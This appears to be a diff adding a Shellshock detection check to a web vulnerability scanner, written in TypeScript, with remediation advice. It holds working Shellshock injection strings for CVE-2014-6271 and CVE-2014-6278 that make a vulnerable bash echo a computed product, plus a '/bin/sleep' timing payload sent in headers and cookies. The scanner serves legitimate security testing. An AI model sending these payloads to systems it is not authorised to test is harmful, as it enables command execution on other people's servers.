@@ -1,0 +1,30 @@
+// Shellshock: a header becomes an environment variable that an old bash runs when it starts (CVE-2014-6271, CVE-2014-6278).
+import { defineCheck } from "../check.ts";
+import type { PointCheck } from "../check.ts";
+import { firstComputed } from "../execution/computed.ts";
+import type { Formula } from "../execution/computed.ts";
+import { firstDelayed } from "../execution/delay.ts";
+
+const functions = [["cve-2014-6271", "() { :; };"], ["cve-2014-6278", "() { _; } >_[$($())] {"]] as const;
+const ends = { "cve-2014-6271": "", "cve-2014-6278": " }" } as const;
+
+// RFC 3875 6.2: a CGI answer begins with header fields and an empty line, and what follows is the body.
+const formulas: readonly Formula[] = functions.map(([id, opening]): Formula => ({
+  technique: id, by: "An old bash that imported the header", result: ({ product }) => product,
+  write: ({ left, right }) => `${opening} echo Content-Type: text/plain; echo; echo $((${left}*${right}));${ends[id]}`,
+  control: ({ left, right }) => `${opening.replace("()", "(")} echo Content-Type: text/plain; echo; echo $((${left}*${right}));${ends[id]}`,
+}));
+
+export const shellshock = defineCheck<PointCheck>({
+  id: "shellshock", about: "A header is run by a bash that imports functions from its environment.",
+  title: "Shellshock", cwe: 78, owasp: ["A06"], severity: "critical", risk: "payload", attackClass: "shellshock",
+  remediation: "Install the bash of a supported release; every one since October 2014 is mended. Replace CGI programs that start shells.",
+  on: "point", fits: ({ kind, name }) => (kind === "header" && !/^(?:x-forwarded|accept-language|origin)/i.test(name)) || kind === "cookie",
+  async *probe(point, tools) {
+    if (!tools.allows("payload")) return;
+    const isCgi = /\/cgi|\.(?:cgi|sh|pl)\b/i.test(new URL(point.route.request.url).pathname);
+    const proof = await firstComputed(point, tools, formulas)
+      ?? (isCgi && tools.allows("timing") ? await firstDelayed(point, tools, [{ technique: "cve-2014-6271", by: "An old bash that imported the header", write: (seconds) => `() { :; }; /bin/sleep ${seconds}` }]) : undefined);
+    if (proof !== undefined) yield proof;
+  },
+});
